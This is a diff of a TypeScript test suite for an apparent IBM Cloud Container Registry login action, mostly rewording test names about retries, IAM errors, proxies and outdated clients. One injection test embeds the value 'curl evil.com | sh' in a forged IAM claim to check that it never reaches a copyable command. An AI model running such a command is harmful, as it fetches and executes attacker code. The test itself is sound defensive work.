@@ -31,19 +31,19 @@ const tokenRequests = () => requestsTo('/oauth/token').length
 const PROFILE_TRUST = (serviceId: string) =>
   `ibmcloud iam trusted-profile-identity-create ${credentials.profileId} --id ${serviceId} --id-type SERVICEID`
 
-/** Puts a shell script in the place of a client. */
+/** Replaces a client with a shell script. */
 function insteadOf(client: string, script: string): void {
   writeFileSync(join(job.folder, 'bin', client), `#!/bin/sh\n${script}\n`, { mode: 0o755 })
 }
 
-/** Answers a request to the token endpoint wrongly, as often as given. */
+/** Makes requests to the token endpoint fail, at most the given number of times. */
 function failTokens(fault: Parameters<Testbed['fault']>[0], times = Number.POSITIVE_INFINITY) {
   let left = times
   testbed.fault(request => (request.path === '/oauth/token' && left-- > 0 ? fault?.(request) : undefined))
 }
 
 describe.each(CLIENTS)('%s', client => {
-  test.each([500, 502, 503, 504])('survives one %d', async status => {
+  test.each([500, 502, 503, 504])('retries after one %d', async status => {
     failTokens(() => ({ status, body: 'passing' }), 1)
     const step = await login(client)
     expect(step).toMatchObject({ exitCode: 0, annotations: [] })
@@ -56,7 +56,7 @@ describe.each(CLIENTS)('%s', client => {
     expect(job.starts).toHaveLength(2)
   })
 
-  test('survives one 429 of the token endpoint', async () => {
+  test('retries after one 429 of the token endpoint', async () => {
     failTokens(
       () => ({ status: 429, body: { errors: [{ code: 'TOOMANYREQUESTS', message: 'slow down' }] } }),
       1,
@@ -65,13 +65,13 @@ describe.each(CLIENTS)('%s', client => {
     expect(job.starts).toHaveLength(2)
   })
 
-  test('survives one connection reset', async () => {
+  test('retries after one connection reset', async () => {
     failTokens(() => 'reset', 1)
     expect(await login(client)).toMatchObject({ exitCode: 0, annotations: [] })
     expect(job.starts.length).toBeLessThanOrEqual(2)
   })
 
-  test('gives up after three times 503, in one error', async () => {
+  test('fails after three 503 responses, with one error', async () => {
     failTokens(() => ({ status: 503, body: 'down' }))
     const step = await login(client)
     expect(step.exitCode).toBe(1)
@@ -98,7 +98,7 @@ describe.each(CLIENTS)('%s', client => {
       'Rate limit exceeded (429)',
     ],
     ['a reset', 'reset' as const, 'The connection was refused or reset.'],
-  ])('gives up after three times %s', async (_what, fault, says) => {
+  ])('fails after three times %s', async (_what, fault, says) => {
     failTokens(() => fault)
     const step = await login(client)
     expect(step.exitCode).toBe(1)
@@ -106,7 +106,7 @@ describe.each(CLIENTS)('%s', client => {
     expect(job.starts).toHaveLength(3)
   })
 
-  test('a key that IAM does not know: refused once', async () => {
+  test('an API key that IAM does not know: no retry', async () => {
     credentials = { ...credentials, apiKey: newApiKey() }
     const step = await login(client)
     expect(step.exitCode).toBe(1)
@@ -121,7 +121,8 @@ describe.each(CLIENTS)('%s', client => {
     expect(step.log).toMatch(/##\[group\]Client and registry output\n\| us\.icr\.io/)
     expect(step.log).not.toMatch(/level=info/)
     expect(job.starts).toHaveLength(1)
-    // docker tells the registry's words itself; for the others this action asks once more.
+    // docker prints the registry's message. For the other clients, the action sends one more request to get
+    // it.
     expect(tokenRequests()).toBe(client === 'docker' ? 1 : 2)
     expect(requestsTo('/identity/token')).toHaveLength(1)
   })
@@ -140,7 +141,7 @@ describe.each(CLIENTS)('%s', client => {
     expect(job.starts).toHaveLength(1)
   })
 
-  test('an account that is open to the private network only', async () => {
+  test('an account that allows only the private network', async () => {
     const message =
       'Private-only access is enabled on this account, but this request was over the public network. You must access this account over the private network'
     failTokens(() => ({ status: 401, body: { errors: [{ code: 'UNAUTHORIZED', message }] } }))
@@ -177,7 +178,7 @@ describe.each(CLIENTS)('%s', client => {
     ])
   })
 
-  test('a certificate that is not trusted', async () => {
+  test('an untrusted certificate', async () => {
     job.env.SSL_CERT_FILE = '/etc/ssl/certs/ca-certificates.crt'
     const step = await login(client)
     expect(step.annotations).toEqual([
@@ -186,7 +187,7 @@ describe.each(CLIENTS)('%s', client => {
     expect(job.starts).toHaveLength(1)
   })
 
-  test('a proxy in the way', async () => {
+  test('a proxy that refuses the connection', async () => {
     testbed.proxy.obstruct('us.icr.io', 'refuse')
     const step = await login(client)
     testbed.proxy.obstruct('us.icr.io')
@@ -199,7 +200,7 @@ describe.each(CLIENTS)('%s', client => {
     expect(job.starts).toHaveLength(3)
   })
 
-  test('a name that does not resolve', async () => {
+  test('a host name that cannot be resolved', async () => {
     job.env.HTTPS_PROXY = ''
     const step = await login(client, { region: 'no-such-host.icr.io' })
     expect(step.annotations.filter(({ kind }) => kind === 'error')).toEqual([
@@ -214,7 +215,7 @@ describe.each(CLIENTS)('%s', client => {
   })
 })
 
-test('four clients in thirteen regions with a wrong key: one error, and few requests', async () => {
+test('four clients in thirteen regions with an unknown API key: one error, and few requests', async () => {
   credentials = { ...credentials, apiKey: newApiKey() }
   const region = 'global,au-syd,br-sao,ca-mon,ca-tor,eu-de,eu-es,eu-gb,in-che,in-mum,jp-osa,jp-tok,us-south'
   const step = await login(CLIENTS.join(), { region })
@@ -225,7 +226,7 @@ test('four clients in thirteen regions with a wrong key: one error, and few requ
   expect(await job.end()).toMatchObject([{ exitCode: 0, annotations: [] }])
 })
 
-test('credentials that IAM knows nothing against', async () => {
+test('credentials that IAM accepts and the registry refuses', async () => {
   failTokens(() => ({
     status: 401,
     body: {
@@ -243,7 +244,7 @@ test('credentials that IAM knows nothing against', async () => {
   )
 })
 
-test('IAM that is down makes the explanation shorter', async () => {
+test('if IAM is unavailable, the explanation is shorter', async () => {
   credentials = { ...credentials, apiKey: newApiKey() }
   testbed.fault(({ path }) => (path.startsWith('/identity/') ? { status: 503 } : undefined))
   const step = await login('docker')
@@ -255,7 +256,7 @@ test('IAM that is down makes the explanation shorter', async () => {
   ])
 })
 
-test('what answers in IAM’s place puts nothing into a command that somebody copies', async () => {
+test('text from a server that impersonates IAM is not used in commands to copy', async () => {
   credentials = { ...credentials, apiKey: newApiKey() }
   const claims = Buffer.from(JSON.stringify({ iam_id: 'iam-ServiceId-1; curl evil.com | sh' })).toString(
     'base64url',
@@ -275,20 +276,20 @@ test('what answers in IAM’s place puts nothing into a command that somebody co
   expect(step.log).not.toContain('$(id)')
 })
 
-test('private domains: IAM is asked by its private host', async () => {
+test('private domains: the request goes to IAM’s private host', async () => {
   credentials = { ...credentials, apiKey: newApiKey() }
   await login('docker', { region: 'private.us.icr.io' })
   expect(requestsTo('/identity/token').map(({ host }) => host)).toEqual(['private.iam.cloud.ibm.com'])
 })
 
-test('a client that is too old', async () => {
+test('an outdated client', async () => {
   const says = "Error: unknown flag: --password-stdin\\nSee 'podman login --help'\\n"
   insteadOf('podman', `printf "${says}" >&2; exit 125`)
   const step = await login('podman')
   expect(step.annotations).toEqual([
     {
       kind: 'error',
-      // The line that tells it, which is not the last.
+      // The line that shows the cause, which is not the last one.
       message: expect.stringMatching(
         /too old, or incompatible with its docker daemon \(Error: unknown flag: --password-stdin\)\./,
       ),
@@ -296,7 +297,7 @@ test('a client that is too old', async () => {
   ])
 })
 
-test('a client that ends before it has read its input is a failed login, not a crash', async () => {
+test('a client that exits before reading its input is a failed login, not a crash', async () => {
   insteadOf('podman', 'exec 0<&-; exit 3')
   for (let round = 0; round < 10; round++) {
     const step = await login('podman')
